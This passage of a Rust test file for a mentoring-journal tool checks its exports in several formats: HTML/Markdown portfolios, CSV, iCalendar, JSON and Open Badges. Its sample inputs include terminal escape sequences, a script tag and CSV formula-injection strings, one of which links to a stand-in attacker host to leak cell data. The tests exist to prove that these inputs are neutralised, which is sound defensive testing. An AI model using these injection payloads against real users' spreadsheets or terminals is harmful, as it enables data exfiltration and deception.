const NOISE: &str = "\u{1b}[31mred\u{1b}[0m \u{7}bell \u{c}page \u{0}nul \u{85}next\r\u{7f} \u{1b}]0;pwned\u{7}<b>bold</b> & more";

/// A journal with that noise in every kind of text the portfolio shows.
fn noisy(store: &Store) {
    let fdir = store.frameworks_dir();
    fs::create_dir_all(&fdir).unwrap();
    fs::write(fdir.join("induction-stages.ron"), STAGES).unwrap();
    fs::write(fdir.join("test-rubric.ron"), RUBRIC).unwrap();
    store.save_journal(None, &journal()).unwrap();
    let mut pv = partnership("Sam Lee", &["curee", "induction-stages", "test-rubric"]);
    pv.focus = Some(format!("Focus {NOISE}"));
    pv.agreement = Some(Agreement {
        outcomes: vec![format!("Outcome {NOISE}")],
        tone_ground_rules: vec![format!("Rule {NOISE}")],
        ..Agreement::default()
    });
    let p = add_partnership(store, pv);
    let mut m = meeting(
        "m00009",
        "2026-03-02",
        &format!("Focus {NOISE}"),
        &format!("Imported note {NOISE}\n\nSecond paragraph {NOISE}"),
    );
    m.outcomes = format!("Outcome {NOISE}");
    m.action_items = vec![action(
        "a1",
        &format!("Act {NOISE}"),
        Owner::Mentee,
        None,
        false,
    )];
    store.create_meeting(&p, &m).unwrap();
    let mut g = Goal {
        by: Default::default(),
        version: SCHEMA_VERSION,
        id: "g00009".into(),
        created: d("2026-03-02"),
        learning_goal: format!("Learn {NOISE}"),
        objective: format!("Objective {NOISE}"),
        mentee_actions: format!("Mentee {NOISE}"),
        mentor_actions: String::new(),
        support_actions: String::new(),
        barriers: format!("Barrier {NOISE}"),
        success_measures: String::new(),
        target: None,
        status: GoalStatus::InProgress,
        agreed: Vec::new(),
        comments: Vec::new(),
        reviews: vec![],
    };
    g.reviews.push(Review {
        date: d("2026-03-03"),
        note: format!("Review {NOISE}"),
    });
    store.create_goal(&p, &g).unwrap();
    let mut r = reflection(
        "r00009",
        "2026-03-04",
        Role::Mentee,
        &format!("Reflected {NOISE}"),
    );
    r.prompt = Some(format!("Prompt {NOISE}"));
    r.attachment = Some(format!("audio/{NOISE}.m4a"));
    store.create_reflection(&p, &r).unwrap();
    store
        .save_at(
            &p.dir.join("stages").join("induction-stages-developing.ron"),
            None,
            &StageRecord {
                by: Default::default(),
                version: SCHEMA_VERSION,
                framework: "induction-stages".into(),
                stage: "developing".into(),
                reflection: format!("Stage {NOISE}"),
                targets: format!("Targets {NOISE}"),
                verifications: vec![Verification {
                    name: format!("Verifier {NOISE}"),
                    role: Some(format!("Role {NOISE}")),
                    date: d("2026-03-05"),
                    comment: format!("Comment {NOISE}"),
                }],
            },
        )
        .unwrap();
    store
        .save_at(
            &p.tick_path("test-rubric"),
            None,
            &sheet(
                "test-rubric",
                vec![(
                    "planning",
                    tick(
                        "2026-03-02",
                        &["m00009"],
                        &[&format!("Evidence {NOISE}")],
                        &[&format!("evidence/{NOISE}.pdf")],
                    ),
                )],
            ),
        )
        .unwrap();
}

fn stray_controls(s: &str) -> Vec<char> {
    s.chars()
        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
        .collect()
}

#[test]
fn no_control_character_from_the_journal_reaches_a_portfolio() {
    let j = Journalled::new(&[noisy]);
    let x = j.export("sam-lee", false);
    let html = export::portfolio(&x, PortfolioFormat::Html);
    let md = export::portfolio(&x, PortfolioFormat::Markdown);
    for (what, text) in [("HTML", &html), ("Markdown", &md)] {
        assert_eq!(stray_controls(text), Vec::<char>::new(), "{what}:\n{text}");
        // The sequences go whole, their text with them; the words stay.
        for gone in ["[31m", "[0m", "]0;", "pwned"] {
            assert!(!text.contains(gone), "{gone} left in the {what}");
        }
        for kept in [
            "Imported note red bell",
            "Second paragraph red",
            "Objective red",
            "Reflected red",
            "Verifier red",
            "Evidence red",
        ] {
            assert!(text.contains(kept), "{kept} not in the {what}:\n{text}");
        }
    }
    // The lines that a form feed, a next-line and a carriage return ended stay apart, and
    // escaping is as before: the markup in the note is text.
    assert!(
        html.contains(
            "<p>Imported note red bell<br>page nul<br>next<br> &lt;b&gt;bold&lt;/b&gt; &amp; more</p>"
        ),
        "{html}"
    );
    assert!(!html.contains("<b>bold</b>"));
    assert!(
        md.contains(
            "**Notes.** Imported note red bell\\\npage nul\\\nnext\\\n\\<b\\>bold\\</b\\> & more\n"
        ),
        "{md}"
    );
    // The command writes the same clean file.
    let out = j.dir().parent().unwrap().join("noisy.html");
    stdout_of(
        j.dir(),
        &[
            "export",
            "portfolio",
            "--with",
            "sam",
            "--format",
            "html",
            "-o",
            out.to_str().unwrap(),
        ],
    );
    let written = fs::read_to_string(&out).unwrap();
    assert_eq!(stray_controls(&written), Vec::<char>::new());
    assert!(written.contains("Imported note red bell"));
}

// ---------------------------------------------------------------- CSV read back

fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    // The file starts with a UTF-8 byte-order mark, for spreadsheets.
    let text = text
        .strip_prefix(export::CSV_BOM)
        .expect("a CSV export starts with a byte-order mark");
    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let headers = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(String::from).collect())
        .collect();
    (headers, rows)
}

#[test]
fn csv_reads_back_with_commas_quotes_and_newlines_intact() {
    let j = Journalled::new(&[sam]);
    let x = j.export("sam-lee", false);
    let goals = export::csv(&x, Table::Goals);
    assert!(goals.ends_with("\r\n"));
    let (h, rows) = read_csv(&goals);
    assert_eq!(h.len(), 12);
    assert_eq!(
        &h[3..10],
        [
            "Objective",
            "Mentee's actions",
            "Mentor's actions",
            "Support network's actions",
            "Potential barriers",
            "Success measures",
            "Target completion date",
        ]
    );
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0][3],
        "Use open questions, \"why\" and \"how\", in every lesson"
    );
    assert_eq!(
        rows[0][8],
        "Pupils explain their reasoning,\nin full sentences"
    );
    assert_eq!(rows[0][11], "2026-02-20: Good progress; see the debrief");
    assert_eq!(rows[1][9], "");

    let (h, rows) = read_csv(&export::csv(&x, Table::Meetings));
    assert_eq!(h[7], "Notes");
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0][0], "m00001");
    assert_eq!(rows[0][2], "15:30");
    assert!(
        rows[0][7].starts_with("Sam wrote <script>alert(\"x\")</script> & said \"why?\", twice;")
    );
    assert!(rows[0][7].contains("\nA backslash \\ stays, and café — 😀 too."));
    assert_eq!(
        rows[0][9],
        "[x] Draft three outcomes, with dates (mentee, due 2026-01-21)\n\
         [ ] Book the observation; tell the office (mentor, due 2026-12-01)"
    );
    assert_eq!(rows[2][13], "yes");

    let (h, rows) = read_csv(&export::csv(&x, Table::Ticks));
    assert_eq!(h[0], "Framework");
    assert_eq!(rows.len(), 4);
    let open = rows
        .iter()
        .find(|r| r[1] == "mentor-open-questions")
        .unwrap();
    assert_eq!(open[5], "m00002 (2026-02-03: Observation debrief)");
    assert_eq!(open[6], "Debrief notes, 3 Feb");
    assert_eq!(open[8], "Ana Ruiz");
    let rubric = rows.iter().find(|r| r[0] == "test-rubric").unwrap();
    assert_eq!(rubric[4], "2");
}

#[test]
fn csv_is_safe_to_open_in_a_spreadsheet_and_says_it_is_utf8() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("j");
    ml(&dir)
        .args(["partner", "add", "Zoé Café"])
        .assert()
        .success();
    ml(&dir)
        .args([
            "log",
            "--with",
            "Zoé Café",
            "--focus",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "--action=-1+1",
            "--",
            "+SUM(1;2) and a café ☕",
        ])
        .assert()
        .success();
    ml(&dir)
        .args(["goal", "add", "--with", "Zoé Café", "--", "@SUM(A1)"])
        .assert()
        .success();
    let bytes = |table: &str, extra: &[&str]| {
        let mut c = ml(&dir);
        c.args(["export", "csv", "--with", "Zoé Café", "--table", table])
            .args(extra);
        c.assert().success().get_output().stdout.clone()
    };
    for table in ["meetings", "goals", "ticks"] {
        let with = bytes(table, &[]);
        assert!(
            with.starts_with(b"\xef\xbb\xbf"),
            "{table}: a UTF-8 BOM first"
        );
        let without = bytes(table, &["--no-bom"]);
        assert_eq!(
            &with[3..],
            &without[..],
            "{table}: --no-bom leaves out the BOM only"
        );
        let (h, rows) = read_csv(&String::from_utf8(with).unwrap());
        for cell in h.iter().chain(rows.iter().flatten()) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{table}: a live formula: {cell:?}"
            );
        }
        if table == "meetings" {
            let m = &rows[0];
            assert_eq!(m[6], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
            assert_eq!(m[7], "'+SUM(1;2) and a café ☕");
            assert!(m[9].starts_with("[ ] -1+1"), "{}", m[9]);
        }
        if table == "goals" {
            assert_eq!(rows[0][3], "'@SUM(A1)");
        }
    }
    // To a file too.
    let file = tmp.path().join("m.csv");
    ml(&dir)
        .args([
            "export",
            "csv",
            "--with",
            "Zoé Café",
            "--table",
            "meetings",
            "-o",
        ])
        .arg(&file)
        .assert()
        .success();
    let text = fs::read(&file).unwrap();
    assert!(text.starts_with(b"\xef\xbb\xbf"));
    assert!(String::from_utf8(text).unwrap().contains("\"'=HYPERLINK("));
}

// ---------------------------------------------------------------- iCalendar read back

fn events(cal: &Calendar) -> Vec<&icalendar::Event> {
    cal.components
        .iter()
        .filter_map(|c| match c {
            CalendarComponent::Event(e) => Some(e),
            _ => None,
        })
        .collect()
}

/// RFC 5545 rules a strict parser holds a calendar to, beyond what icalendar's parser checks:
/// every VEVENT has a UID, a UTC DTSTAMP and a SEQUENCE (an INTEGER, not negative); a DATE
/// DTSTART has only a DATE DTEND, and a DURATION of whole days or weeks (3.8.2.5: "dur-day
/// or dur-week"); a DATE-TIME DTSTART takes any duration.
fn strict_rfc5545(text: &str) -> Result<(), String> {
    let unfolded = text.replace("\r\n ", "");
    let mut event: Option<Vec<(String, String)>> = None;
    let mut seen = 0;
    for line in unfolded.split("\r\n").filter(|l| !l.is_empty()) {
        let (name, value) = line
            .split_once(':')
            .ok_or_else(|| format!("not a content line: {line:?}"))?;
        match (name, &mut event) {
            ("BEGIN", None) if value == "VEVENT" => event = Some(Vec::new()),
            ("END", Some(props)) if value == "VEVENT" => {
                seen += 1;
                let get = |n: &str| {
                    props
                        .iter()
                        .find(|(k, _)| k == n || k.starts_with(&format!("{n};")))
                };
                let uid = get("UID").ok_or("a VEVENT without a UID")?.1.clone();
                let (start, _) = get("DTSTART").ok_or(format!("{uid}: no DTSTART"))?;
                if start.contains("VALUE=DATE") && !start.contains("VALUE=DATE-TIME") {
                    if let Some((_, d)) = get("DURATION") {
                        let days_or_weeks = d
                            .strip_prefix('P')
                            .and_then(|r| r.strip_suffix(['D', 'W']))
                            .is_some_and(|n| {
                                !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit())
                            });
                        if !days_or_weeks {
                            return Err(format!(
                                "{uid}: DURATION:{d} on a DATE start (RFC 5545 3.8.2.5 allows \
                                 only days or weeks)"
                            ));
                        }
                    }
                    if let Some((end, _)) = get("DTEND")
                        && !end.contains("VALUE=DATE")
                    {
                        return Err(format!("{uid}: a DATE start with a DATE-TIME end"));
                    }
                }
                let stamp = &get("DTSTAMP").ok_or(format!("{uid}: no DTSTAMP"))?.1;
                let utc = stamp.len() == 16
                    && stamp.ends_with('Z')
                    && chrono::NaiveDateTime::parse_from_str(stamp, "%Y%m%dT%H%M%SZ").is_ok();
                if !utc {
                    return Err(format!("{uid}: DTSTAMP {stamp} is not a UTC date-time"));
                }
                let seq = &get("SEQUENCE").ok_or(format!("{uid}: no SEQUENCE"))?.1;
                if seq.parse::<i32>().map_or(true, |n| n < 0) {
                    return Err(format!("{uid}: SEQUENCE {seq} is not an INTEGER >= 0"));
                }
                event = None;
            }
            (_, Some(props)) => props.push((name.to_string(), value.to_string())),
            _ => {}
        }
    }
    if event.is_some() {
        return Err("an unterminated VEVENT".into());
    }
    if seen == 0 {
        return Err("no VEVENT".into());
    }
    Ok(())
}

/// The value of property `name` of the event `uid` (unfolded).
fn event_prop(text: &str, uid: &str, name: &str) -> Option<String> {
    let unfolded = text.replace("\r\n ", "");
    let start = unfolded.find(&format!("UID:{uid}\r\n"))?;
    let event = &unfolded[start..unfolded[start..].find("END:VEVENT")? + start];
    event
        .split("\r\n")
        .find_map(|l| l.strip_prefix(&format!("{name}:")).map(String::from))
}

#[test]
fn a_meeting_with_a_length_but_no_time_is_a_valid_date_event_and_edits_raise_its_sequence() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("j");
    let ml_now = || {
        // The real clock: DTSTAMP is the export's time.
        let mut c = Command::new(BIN);
        c.arg("--data-dir")
            .arg(&dir)
            .env_remove("MENTORLOG_TODAY")
            .env_remove("MENTORLOG_DIR");
        c
    };
    let id_of = |out: &[u8]| {
        let s = String::from_utf8_lossy(out);
        let at = s.find("(id ").unwrap() + 4;
        s[at..at + s[at..].find(')').unwrap()].to_string()
    };
    ml_now()
        .args(["partner", "add", "Sam Lee"])
        .assert()
        .success();
    let a = ml_now()
        .args([
            "log",
            "--with",
            "sam",
            "--duration",
            "45",
            "A talk in the corridor",
        ])
        .assert()
        .success();
    let untimed = id_of(&a.get_output().stdout);
    let a = ml_now()
        .args([
            "log",
            "--with",
            "sam",
            "--time",
            "10:00",
            "--duration",
            "30",
            "Timed",
        ])
        .assert()
        .success();
    let timed = id_of(&a.get_output().stdout);
    // Both saved a while ago.
    set_mtimes(&dir, FIXED_MTIME);
    let ics = || {
        let a = ml_now()
            .args(["export", "ics", "--with", "sam"])
            .assert()
            .success();
        String::from_utf8(a.get_output().stdout.clone()).unwrap()
    };
    let before = chrono::Utc::now() - chrono::Duration::seconds(2);
    let first = ics();
    strict_rfc5545(&first).unwrap();
    let cal = Calendar::from_str(&first).unwrap();
    assert_eq!(events(&cal).len(), 2);
    let uid = |id: &str| format!("{id}@mentorlog");
    assert_eq!(event_prop(&first, &uid(&untimed), "DURATION"), None);
    assert_eq!(
        event_prop(&first, &uid(&timed), "DURATION").as_deref(),
        Some("PT30M")
    );
    // DTSTAMP: the export's time, in UTC.
    let stamp = event_prop(&first, &uid(&timed), "DTSTAMP").unwrap();
    let stamp = chrono::NaiveDateTime::parse_from_str(&stamp, "%Y%m%dT%H%M%SZ")
        .unwrap()
        .and_utc();
    assert!(
        stamp >= before && stamp <= chrono::Utc::now() + chrono::Duration::seconds(2),
        "{stamp}"
    );
    // SEQUENCE: the same for an unchanged record, higher once it is edited.
    let seq = |text: &str, id: &str| -> i32 {
        event_prop(text, &uid(id), "SEQUENCE")
            .unwrap()
            .parse()
            .unwrap()
    };
    let again = ics();
    assert_eq!(seq(&again, &untimed), seq(&first, &untimed));
    assert_eq!(seq(&again, &timed), seq(&first, &timed));
    // Ticking with the meeting as evidence edits the meeting (it lists the item).
    ml_now()
        .args([
            "tick",
            "--with",
            "sam",
            "curee/mentor-open-questions",
            "--meeting",
            &untimed,
        ])
        .assert()
        .success();
    let edited = ics();
    strict_rfc5545(&edited).unwrap();
    assert!(
        seq(&edited, &untimed) > seq(&first, &untimed),
        "{} then {}",
        seq(&first, &untimed),
        seq(&edited, &untimed)
    );
    assert_eq!(seq(&edited, &timed), seq(&first, &timed));
}

#[test]
fn the_strict_check_refuses_minutes_on_a_date() {
    let event = |start: &str, duration: &str| {
        format!(
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:x\r\nDTSTAMP:20261123T101500Z\r\n\
             SEQUENCE:3\r\n{start}\r\n{duration}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        )
    };
    let e = strict_rfc5545(&event("DTSTART;VALUE=DATE:20260203", "DURATION:PT45M")).unwrap_err();
    assert!(e.contains("3.8.2.5"), "{e}");
    strict_rfc5545(&event("DTSTART;VALUE=DATE:20260203", "DURATION:P1D")).unwrap();
    strict_rfc5545(&event("DTSTART:20260203T153000", "DURATION:PT45M")).unwrap();
}

#[test]
fn the_calendars_of_the_test_journal_and_the_demo_are_strictly_valid() {
    let j = Journalled::new(&[sam]);
    strict_rfc5545(&export::ics(&j.export("sam-lee", false))).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("j");
    ml(&dir).arg("demo").assert().success();
    for p in ["sam", "priya", "alex"] {
        let text = stdout_of(&dir, &["export", "ics", "--with", p, "--include-private"]);
        strict_rfc5545(&text).unwrap_or_else(|e| panic!("{p}: {e}"));
        Calendar::from_str(&text).unwrap();
    }
}

#[test]
fn the_calendar_parses_with_every_event() {
    let j = Journalled::new(&[sam]);
    let text = export::ics(&j.export("sam-lee", false));
    // CRLF everywhere, no line over 75 octets.
    assert!(text.ends_with("END:VCALENDAR\r\n"));
    for line in text.split("\r\n") {
        assert!(!line.contains('\n'), "bare LF in {line:?}");
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
    }
    assert!(text.contains("\r\n "), "the long notes fold");
    let unfolded = icalendar::parser::unfold(&text);
    let raw = icalendar::parser::read_calendar(&unfolded).unwrap();
    assert_eq!(raw.components.len(), 7);
    assert!(
        raw.properties
            .iter()
            .any(|p| p.name == "VERSION" && p.val == "2.0")
    );
    assert!(raw.properties.iter().any(|p| p.name == "PRODID"));
    for c in &raw.components {
        assert_eq!(c.name, "VEVENT");
        assert_eq!(
            c.find_prop("DTSTAMP").unwrap().val.as_str(),
            "20261123T000000Z"
        );
    }

    let cal = Calendar::from_str(&text).unwrap();
    let ev = events(&cal);
    assert_eq!(ev.len(), 7);
    let by_uid = |uid: &str| {
        *ev.iter()
            .find(|e| e.get_uid() == Some(uid))
            .unwrap_or_else(|| panic!("no event {uid}"))
    };
    let first = by_uid("m00001@mentorlog");
    assert_eq!(
        first.get_summary(),
        Some("Mentoring: First meeting: hopes, goals & ground rules")
    );
    assert_eq!(
        first.get_start(),
        Some(DatePerhapsTime::DateTime(
            icalendar::CalendarDateTime::Floating(d("2026-01-14").and_hms_opt(15, 30, 0).unwrap())
        ))
    );
    assert_eq!(first.property_value("DURATION"), Some("PT45M"));
    let r = j.journal.reader(Audience::Owner);
    let notes = &r
        .partner("sam-lee")
        .unwrap()
        .meeting("m00001")
        .unwrap()
        .value
        .notes;
    assert_eq!(first.get_description(), Some(notes.as_str()));

    let second = by_uid("m00002@mentorlog");
    assert_eq!(
        second.get_start(),
        Some(DatePerhapsTime::Date(d("2026-02-03")))
    );
    assert!(second.property_value("DURATION").is_none());
    assert!(
        second
            .get_description()
            .unwrap()
            .contains("(\"why do you think that?\", \"what would change your mind?\")")
    );

    let target = by_uid("goal-g00001@mentorlog");
    assert_eq!(
        target.get_summary(),
        Some("Target: Use open questions, \"why\" and \"how\", in every lesson")
    );
    assert_eq!(
        target.get_start(),
        Some(DatePerhapsTime::Date(d("2026-03-31")))
    );
    let due = by_uid("action-m00001-a2@mentorlog");
    assert_eq!(
        due.get_summary(),
        Some("Action: Book the observation; tell the office")
    );
    assert_eq!(
        due.get_start(),
        Some(DatePerhapsTime::Date(d("2026-12-01")))
    );
    // Done action items and those with no due date are not in the calendar.
    assert!(
        ev.iter()
            .all(|e| e.get_uid() != Some("action-m00001-a1@mentorlog"))
    );
    assert!(
        ev.iter()
            .all(|e| e.get_uid() != Some("action-m00002-a1@mentorlog"))
    );
    // A goal with no target date has no event.
    assert!(
        ev.iter()
            .all(|e| e.get_uid() != Some("goal-g00002@mentorlog"))
    );
}

// ---------------------------------------------------------------- JSON

#[test]
fn json_has_a_stable_shape_with_the_report() {
    let j = Journalled::new(&[sam]);
    let v: Value = serde_json::from_str(&export::json(&j.export("sam-lee", false))).unwrap();
    for key in [
        "format",
        "version",
        "exported",
        "review",
        "journal",
        "partnership",
        "meetings",
        "goals",
        "reflections",
        "stages",
        "ticks",
        "report",
    ] {
        assert!(v.get(key).is_some(), "no {key}");
    }
    assert_eq!(v["format"], "mentorlog-partnership");
    assert_eq!(v["exported"], "2026-11-23");
    assert_eq!(v["partnership"]["id"], "sam-lee");
    assert_eq!(v["meetings"].as_array().unwrap().len(), 3);
    assert_eq!(v["meetings"][0]["id"], "m00001", "oldest first");
    assert_eq!(v["meetings"][1]["type"], "ObservationOfMentee");
    assert_eq!(v["goals"].as_array().unwrap().len(), 2);
    assert_eq!(v["reflections"].as_array().unwrap().len(), 2);
    assert_eq!(v["stages"][0]["stage"], "developing");
    assert_eq!(v["report"]["readiness"][0]["scheme"], "scotelas");
    assert_eq!(v["report"]["gaps"]["meetings"], 3);
}

// ---------------------------------------------------------------- badges

#[test]
fn a_badge_is_refused_listing_every_missing_rule() {
    let j = Journalled::new(&[sam]);
    let err = badge_text(&j.export("sam-lee", false), "scotelas").unwrap_err();
    let text = err.to_string();
    for want in [
        "not yet ready for ScotELAs mentoring recognition",
        "Mentoring agreement done",
        "the agreement names 2 outcome(s); at least 3 are needed",
        "the mentor has not agreed it (date)",
        "Two reflections from each side",
        "Evaluation done",
    ] {
        assert!(text.contains(want), "missing {want:?} in:\n{text}");
    }
    // Sam's partnership is on the expertise-focused pathway: the handbook states the six-month
    // minimum for the role-focused pathway only.
    assert!(!text.contains("At least 6 months"), "{text}");
    let unknown = badge_text(&j.export("sam-lee", false), "ljmu/advanced").unwrap_err();
    assert!(
        unknown.to_string().contains(
            "choose one of: scotelas, induction-stages/developing, induction-stages/effective"
        ),
        "{unknown}"
    );
}

/// The fields Open Badges 3.0 requires of an OpenBadgeCredential and what it holds.
fn assert_ob3(v: &Value) {
    assert_eq!(
        v["@context"],
        serde_json::json!([
            "https://www.w3.org/ns/credentials/v2",
            "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"
        ])
    );
    assert_eq!(
        v["type"],
        serde_json::json!(["VerifiableCredential", "OpenBadgeCredential"])
    );
    assert!(v["id"].as_str().unwrap().starts_with("urn:uuid:"));
    assert!(v["name"].as_str().is_some_and(|s| !s.is_empty()));
    assert_eq!(v["validFrom"], "2026-11-23T00:00:00Z");
    let issuer = &v["issuer"];
    assert!(issuer["id"].as_str().unwrap().starts_with("did:key:z6Mk"));
    assert_eq!(issuer["type"], serde_json::json!(["Profile"]));
    assert_eq!(issuer["name"], "Dana Whyte");
    let subject = &v["credentialSubject"];
    assert_eq!(subject["type"], serde_json::json!(["AchievementSubject"]));
    assert_eq!(subject["identifier"][0]["type"], "IdentityObject");
    let id = &subject["identifier"][0];
    let salt = id["salt"].as_str().unwrap();
    assert_eq!(
        id["identityHash"],
        export::identity_hash(issuer::EMAIL, salt),
        "a salted hash of the recipient's email"
    );
    assert!(id["identityHash"].as_str().unwrap().starts_with("sha256$"));
    assert_eq!(id["identityType"], "emailAddress");
    assert_eq!(id["hashed"], true);
    let a = &subject["achievement"];
    assert!(a["id"].as_str().unwrap().starts_with("urn:uuid:"));
    assert_eq!(a["type"], serde_json::json!(["Achievement"]));
    for f in ["name", "description"] {
        assert!(a[f].as_str().is_some_and(|s| !s.is_empty()), "{f}");
    }
    assert!(a["criteria"]["narrative"].as_str().is_some());
    for al in a["alignment"].as_array().into_iter().flatten() {
        assert_eq!(al["type"], serde_json::json!(["Alignment"]));
        for f in ["targetName", "targetUrl", "targetCode", "targetFramework"] {
            assert!(al[f].as_str().is_some_and(|s| !s.is_empty()), "{f}");
        }
        assert_eq!(al["targetType"], "ceasn:Competency");
    }
    for e in v["evidence"].as_array().unwrap() {
        assert_eq!(e["type"], serde_json::json!(["Evidence"]));
        assert!(e["narrative"].as_str().is_some());
    }
}

#[test]
fn a_ready_partnership_gets_a_scotelas_badge() {
    let j = Journalled::new(&[priya]);
    let x = j.export("priya-shah", false);
    assert!(x.report.readiness[0].ready, "{:?}", x.report.readiness[0]);
    let text = badge_text(&x, "scotelas").unwrap();
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_ob3(&v);
    assert_eq!(
        v["credentialSubject"]["achievement"]["name"],
        "ScotELAs mentoring recognition"
    );
    let names: Vec<&str> = v["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"Mentoring agreement"), "{names:?}");
    assert!(names.contains(&"Mentoring log"), "{names:?}");
    assert!(
        names.contains(&"Evaluation of the mentoring agreement"),
        "{names:?}"
    );
    // Deterministic: the same journal gives the same credential.
    assert_eq!(text, badge_text(&x, "scotelas").unwrap());
}

#[test]
fn a_completed_stage_gets_a_badge_aligned_to_its_items() {
    let j = Journalled::new(&[sam]);
    let v: Value = serde_json::from_str(
        &badge_text(&j.export("sam-lee", false), "induction-stages/developing").unwrap(),
    )
    .unwrap();
    assert_ob3(&v);
    let codes: Vec<&str> = v["credentialSubject"]["achievement"]["alignment"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["targetCode"].as_str().unwrap())
        .collect();
    assert_eq!(
        codes,
        [
            "induction-stages/dev-standards",
            "curee/mentor-open-questions",
            "curee/mentor-listen-actively"
        ]
    );
    let evidence = v["evidence"].to_string();
    assert!(
        evidence.contains("meeting of 2026-02-03: Observation debrief"),
        "{evidence}"
    );
    assert!(evidence.contains("Verified by Ana Ruiz (Induction tutor) on 2026-03-01"));
}

// ---------------------------------------------------------------- review mode

#[test]
fn review_mode_leaves_private_records_out_of_every_export() {
    let j = Journalled::new(&[sam]);
    let open = j.export("sam-lee", false);
    let review = j.export("sam-lee", true);
    let all = |x: &Export| {
        vec![
            (
                "portfolio.md",
                export::portfolio(x, PortfolioFormat::Markdown),
            ),
            (
                "portfolio.html",
                export::portfolio(x, PortfolioFormat::Html),
            ),
            ("goals.csv", export::csv(x, Table::Goals)),
            ("meetings.csv", export::csv(x, Table::Meetings)),
            ("ticks.csv", export::csv(x, Table::Ticks)),
            ("ics", export::ics(x)),
            ("json", export::json(x)),
            (
                "badge",
                badge_text(x, "induction-stages/developing").unwrap(),
            ),
        ]
    };
    // Without review mode the private meeting is there (so the test can see it go).
    let shown = all(&open);
    assert!(shown[0].1.contains("PRIVATE-NOTE"));
    assert!(shown[3].1.contains("PRIVATE-NOTE"));
    assert!(shown[5].1.contains("PRIVATE-NOTE"));
    assert!(shown[6].1.contains("PRIVATE-REFLECTION"));
    for (name, text) in all(&review) {
        for word in PRIVATE_WORDS {
            assert!(
                !text.contains(word),
                "{word} in the {name} export in review mode"
            );
        }
    }
    let md = export::portfolio(&review, PortfolioFormat::Markdown);
    assert!(md.contains("Private meetings and private reflections are left out of this copy."));
    // The tick whose only meeting was private keeps its other evidence.
    assert!(md.contains("  - evidence: Seen in the check-in"), "{md}");
}

// ---------------------------------------------------------------- the command

fn ml(dir: &Path) -> Command {
    let mut c = Command::new(BIN);
    c.arg("--data-dir")
        .arg(dir)
        .env("MENTORLOG_TODAY", TODAY)
        .env_remove("MENTORLOG_DIR")
        .env("EDITOR", "false")
        .env("VISUAL", "false");
    c
}

fn stdout_of(dir: &Path, args: &[&str]) -> String {
    // A badge is issued by a coordinator, to an email: the journal gets one (once), and the
    // badge's parts new at each issuance are set to the fixed issuance's.
    if args.len() > 1 && args[0] == "export" && args[1] == "badge" {
        let keys = dir.parent().unwrap();
        let issue = if keys.join("dana_key").exists() {
            issuer::issue_args(&keys.join("dana_key"))
        } else {
            issuer::add_issuer(env!("CARGO_BIN_EXE_mentorlog"), dir, keys)
        };
        let a = ml(dir).args(args).args(&issue).assert().success();
        return issued_as_fixed(&String::from_utf8(a.get_output().stdout.clone()).unwrap());
    }
    let a = ml(dir).args(args).assert().success();
    String::from_utf8(a.get_output().stdout.clone()).unwrap()
}

#[test]
fn the_command_prints_each_export_as_the_library_makes_it() {
    let j = Journalled::new(&[sam]);
    // By default an export is made for a reader who does not see private records; with
    // --include-private, for the owner.
    for (extra, x) in [
        (None, j.export("sam-lee", true)),
        (Some("--include-private"), j.export("sam-lee", false)),
    ] {
        for (mut args, want) in export_cases(&x) {
            args.extend(extra);
            assert_eq!(stdout_of(j.dir(), &args), want, "{args:?}");
        }
    }
}

fn export_cases<'a>(x: &Export) -> Vec<(Vec<&'a str>, String)> {
    vec![
        (
            vec!["export", "portfolio", "--with", "sam"],
            export::portfolio(x, PortfolioFormat::Markdown),
        ),
        (
            vec!["export", "portfolio", "--with", "sam", "--format", "html"],
            export::portfolio(x, PortfolioFormat::Html),
        ),
        (
            vec!["export", "csv", "--with", "sam"],
            export::csv(x, Table::Goals),
        ),
        (
            vec!["export", "csv", "--with", "sam", "--table", "meetings"],
            export::csv(x, Table::Meetings),
        ),
        (
            vec!["export", "csv", "--with", "sam", "--table", "ticks"],
            export::csv(x, Table::Ticks),
        ),
        (vec!["export", "ics", "--with", "sam"], export::ics(x)),
        (vec!["export", "json", "--with", "sam"], export::json(x)),
    ]
}

#[test]
fn the_command_issues_the_badge_the_library_makes() {
    let j = Journalled::new(&[sam]);
    let args = [
        "export",
        "badge",
        "--with",
        "sam",
        "--stage",
        "induction-stages/developing",
    ];
    // Its parts new at each issuance aside (stdout_of sets them to the fixed issuance's).
    assert_eq!(
        stdout_of(j.dir(), &args),
        badge_text(&j.export("sam-lee", true), "induction-stages/developing").unwrap()
    );
}

#[test]
fn output_file_is_private_and_the_format_follows_its_name() {
    let j = Journalled::new(&[sam]);
    let out = j.dir().parent().unwrap().join("out");
    fs::create_dir_all(&out).unwrap();
    let html = out.join("sam.html");
    let said = stdout_of(
        j.dir(),
        &[
            "export",
            "portfolio",
            "--with",
            "sam",
            "-o",
            html.to_str().unwrap(),
        ],
    );
    assert_eq!(
        said,
        format!(
            "Wrote the portfolio of Sam Lee to {} (1 private meeting and 1 private reflection \
             left out; --include-private puts them in)\n",
            html.display()
        )
    );
    let text = fs::read_to_string(&html).unwrap();
    assert_eq!(
        text,
        export::portfolio(&j.export("sam-lee", true), PortfolioFormat::Html)
    );
    let mode = fs::metadata(&html).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "{mode:o}");
